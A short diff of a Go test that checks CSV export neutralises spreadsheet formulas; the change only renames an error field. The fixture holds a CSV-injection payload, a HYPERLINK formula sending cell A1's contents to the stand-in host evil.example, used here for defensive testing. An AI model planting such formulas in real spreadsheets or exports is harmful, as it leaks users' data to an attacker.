@@ -19,7 +19,7 @@ func TestExportNeutralisesFormulas(t *testing.T) {
 	id := c.ps.out.Cands[0].Offer.ID
 	sheet := "offer_id,source,as_of\n" + id + `,"=HYPERLINK(""http://evil.example/?""&A1,""prices"")",2026-11-01` + "\n"
 	if !c.applySheet("shared.csv", sheet) {
-		t.Fatalf("sheet refused: %s", c.sheet.err)
+		t.Fatalf("sheet refused: %s", c.sheet.Err)
 	}
 	recs, err := csv.NewReader(strings.NewReader(page.ExportCSV(c.viewIn()))).ReadAll()
 	if err != nil {
